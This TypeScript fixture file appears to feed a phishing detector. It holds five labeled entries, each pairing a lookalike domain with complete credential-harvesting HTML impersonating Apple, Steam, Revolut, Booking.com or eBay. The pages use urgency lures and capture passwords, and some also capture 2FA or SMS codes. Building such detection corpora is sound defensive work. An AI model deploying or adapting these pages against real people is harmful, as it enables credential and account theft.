import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-look-punycode-apple-cyrillic',
  label: 'phishing',
  kind: 'lookalike-host',
  url: 'https://id.xn--80ak6aa92e.com/',
  body: `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in with Apple Account</title>
<style>
body{margin:0;background:#f5f5f7;font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",sans-serif;color:#1d1d1f}
.c{max-width:420px;margin:14vh auto;background:#fff;border-radius:18px;padding:40px;text-align:center;box-shadow:0 4px 20px rgba(0,0,0,.06)}
.ic{font-size:52px}
input{width:100%;height:50px;border:1px solid #d2d2d7;border-radius:10px;padding:0 14px;font-size:17px;margin:6px 0;box-sizing:border-box}
button{margin-top:16px;width:100%;height:48px;border:0;border-radius:10px;background:#0071e3;color:#fff;font-size:17px}
small{color:#6e6e73}
</style>
</head>
<body>
<div class="c">
<div class="ic">&#63743;</div>
<h2>Sign in with Apple Account</h2>
<small>A purchase of "Final Cut Pro" ($299.99) was made on a new device. If you did not authorise it, sign in to request a refund.</small>
<form method="post" action="/auth/signin.php" style="margin-top:20px">
<input name="accountName" placeholder="Email or Phone Number">
<input name="password" type="password" placeholder="Password">
<button>Continue</button>
</form>
</div>
</body>
</html>`,
},
{
  id: 'a-look-typo-steamcommunlty',
  label: 'phishing',
  kind: 'lookalike-host',
  url: 'https://steamcommunlty.com/tradeoffer/new/?partner=1193851233&token=xKp0sQ2a',
  routes: {
    'steamcommunlty.com/tradeoffer/new/': htmlRoute(`<!DOCTYPE html>
<html class="responsive" lang="en">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Steam Community :: Trade Offer</title>
<link rel="shortcut icon" href="/favicon.ico" type="image/x-icon">
<style>
body{margin:0;background:#1b2838;color:#c6d4df;font-family:"Motiva Sans",Arial,Helvetica,sans-serif}
#global_header{background:#171a21;height:104px;display:flex;align-items:center;padding:0 40px}
#global_header img{height:44px}
.trade{max-width:940px;margin:30px auto;background:rgba(0,0,0,.2);padding:20px}
.items{display:flex;gap:8px;flex-wrap:wrap;margin:14px 0}.items div{width:96px;height:96px;background:#2a475e;border:1px solid #4b6b8a;font-size:11px;display:flex;align-items:flex-end;justify-content:center;padding:4px;box-sizing:border-box;text-align:center}
.btn_green{background:linear-gradient(to bottom,#a4d007 5%,#536904 95%);color:#d2e885;padding:10px 24px;border:0;border-radius:2px;cursor:pointer;font-size:15px}
#login{display:none;position:fixed;inset:0;background:rgba(0,0,0,.8)}
#login .box{max-width:420px;margin:10vh auto;background:#181a21;padding:30px;border-radius:4px}
#login input{width:100%;height:40px;background:#32353c;border:0;color:#fff;padding:0 10px;margin:6px 0 14px;box-sizing:border-box}
#login label{font-size:12px;text-transform:uppercase;color:#1999ff;font-weight:bold}
</style>
</head>
<body>
<div id="global_header"><img src="/public/shared/images/header/logo_steam.svg" alt="STEAM"></div>
<div class="trade">
<h2 style="color:#fff;font-weight:300">You've received a trade offer from <span style="color:#57cbde">ZyKo_</span></h2>
<p>Items you will receive:</p>
<div class="items"><div>AWP | Dragon Lore (Field-Tested)</div><div>Karambit | Fade (Factory New)</div><div>Sport Gloves | Vice</div></div>
<p>Items you will give: <i>nothing</i></p>
<button class="btn_green" onclick="document.getElementById('login').style.display='block'">Accept trade</button>
</div>
<div id="login"><div class="box">
<h3 style="color:#fff;font-weight:300">Sign in to accept this offer</h3>
<form method="post" action="/login/dologin/">
<label>Steam account name</label><input name="username">
<label>Password</label><input name="password" type="password">
<label>Steam Guard mobile authenticator code</label><input name="twofactorcode" maxlength="5">
<button class="btn_green" style="width:100%">Sign in</button>
</form></div></div>
</body>
</html>`),
  },
},
{
  id: 'a-look-typo-revoult',
  label: 'phishing',
  kind: 'lookalike-host',
  url: 'https://app.revoult-secure.com/login',
  body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Revolut - Log in</title>
<style>
body{margin:0;font-family:Inter,-apple-system,Arial,sans-serif;background:#f7f7f7;color:#191c1f}
.c{max-width:420px;margin:10vh auto;background:#fff;border-radius:24px;padding:36px}
h1{font-size:28px;margin:0 0 8px}
p{color:#717173}
.ph{display:flex;gap:8px}.ph select{width:110px;height:52px;border-radius:12px;border:1px solid #e2e2e7;font-size:16px}.ph input{flex:1}
input{width:100%;height:52px;border-radius:12px;border:1px solid #e2e2e7;padding:0 14px;font-size:16px;box-sizing:border-box}
button{width:100%;height:52px;margin-top:20px;border:0;border-radius:26px;background:#191c1f;color:#fff;font-size:16px;font-weight:600}
.h{display:none}
</style></head>
<body>
<div class="c">
<div id="s1"><h1>Welcome back</h1><p>Enter the phone number associated with your Revolut account</p>
<div class="ph"><select id="cc"><option>+44</option><option>+49</option><option>+33</option><option>+34</option><option>+48</option><option>+353</option></select><input id="ph" inputmode="tel" placeholder="Phone number"></div>
<button onclick="s(1)">Continue</button></div>
<div id="s2" class="h"><h1>Enter passcode</h1><p>Enter your 6-digit Revolut passcode</p><input id="pc" type="password" inputmode="numeric" maxlength="6"><button onclick="s(2)">Continue</button></div>
<div id="s3" class="h"><h1>Verify it's you</h1><p>We've sent a 6-digit code by SMS. Enter it below to confirm this device.</p><input id="otp" inputmode="numeric" maxlength="6"><button onclick="s(3)">Confirm</button></div>
</div>
<script>
function s(n){
  var d={step:n,cc:document.getElementById('cc').value,ph:document.getElementById('ph').value,pc:document.getElementById('pc').value,otp:document.getElementById('otp').value};
  fetch('/api/v1/session',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)});
  document.getElementById('s'+n).className='h';
  var nx=document.getElementById('s'+(n+1)); if(nx) nx.className=''; else location.href='https://www.revolut.com/';
}
</script>
</body></html>`,
},
{
  id: 'a-look-brand-partner-booking',
  label: 'phishing',
  kind: 'lookalike-host',
  url: 'https://admin-booking-partner.com/sign-in/?hotel_id=2290413',
  routes: {
    'admin-booking-partner.com/sign-in/': htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Partner Account – Sign in</title>
<link rel="icon" href="https://cf.bstatic.com/static/img/favicon/9ca83ba2a5a3293ff07452cb24949a5843af4592.svg">
<style>
body{margin:0;font-family:BlinkMacSystemFont,-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;color:#1a1a1a;background:#fff}
.hd{background:#003580;height:64px;display:flex;align-items:center;padding:0 24px;color:#fff;font-weight:700;font-size:22px}
.hd span{font-weight:400;font-size:15px;margin-left:10px;opacity:.9}
.m{max-width:380px;margin:48px auto;padding:0 16px}
h1{font-size:24px}
label{display:block;font-size:14px;font-weight:500;margin:16px 0 6px}
input{width:100%;height:40px;border:1px solid #868686;border-radius:4px;padding:0 10px;font-size:14px;box-sizing:border-box}
button{width:100%;height:44px;background:#0071c2;color:#fff;border:0;border-radius:4px;font-size:16px;margin-top:22px}
.n{background:#fff0e0;border:1px solid #f3bf6c;border-radius:4px;padding:12px;font-size:13px}
</style>
</head>
<body>
<div class="hd">Booking.com <span>for Partners</span></div>
<div class="m">
<div class="n">A guest has reported a problem with reservation <b>#4419 2280 173</b>. To avoid the reservation being cancelled, please sign in and confirm the guest's card details within 24 hours.</div>
<h1>Sign in to manage your property</h1>
<form method="post" action="/sign-in/password.php">
<label>Login name</label><input name="loginname">
<label>Password</label><input name="password" type="password">
<button>Sign in</button>
</form>
<p style="font-size:13px;margin-top:20px"><a href="#" style="color:#0071c2">Having trouble signing in?</a></p>
</div>
</body></html>`),
  },
},
{
  id: 'a-look-newtld-ebay-verify',
  label: 'phishing',
  kind: 'lookalike-host',
  url: 'https://signin.ebay-verify.shop/ws/eBayISAPI.dll?SignIn&ru=https%3A%2F%2Fwww.ebay.com%2F',
  routes: {
    'signin.ebay-verify.shop/ws/eBayISAPI.dll': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in or Register | eBay</title>
<style>
body{margin:0;font-family:"Market Sans",Arial,sans-serif;color:#191919}
.hd{padding:16px 24px}.hd img{height:48px}
.m{max-width:400px;margin:20px auto;text-align:center;padding:0 16px}
h1{font-size:28px}
input{width:100%;height:48px;border:1px solid #8f8f8f;border-radius:8px;padding:0 14px;font-size:16px;margin:8px 0;box-sizing:border-box;background:#f7f7f7}
button{width:100%;height:48px;border-radius:24px;border:0;background:#3665f3;color:#fff;font-size:16px;font-weight:700;margin-top:10px}
.o{width:100%;height:48px;border-radius:24px;border:1px solid #c7c7c7;background:#fff;margin-top:10px;font-size:15px}
</style></head>
<body>
<div class="hd"><img src="/ws/img/ebay-logo.svg" alt="eBay"></div>
<div class="m">
<h1>Hello</h1>
<p>Sign in to eBay or <a href="#">create an account</a></p>
<form method="post" action="/ws/signin.php">
<input name="userid" placeholder="Email or username">
<input name="pass" type="password" placeholder="Password">
<button>Sign in</button>
</form>
<button class="o">Continue with Google</button>
<button class="o">Continue with Apple</button>
<p style="font-size:12px;color:#707070;margin-top:30px">Copyright © 1995-2025 eBay Inc. All Rights Reserved.</p>
</div></body></html>`),
  },
},
];
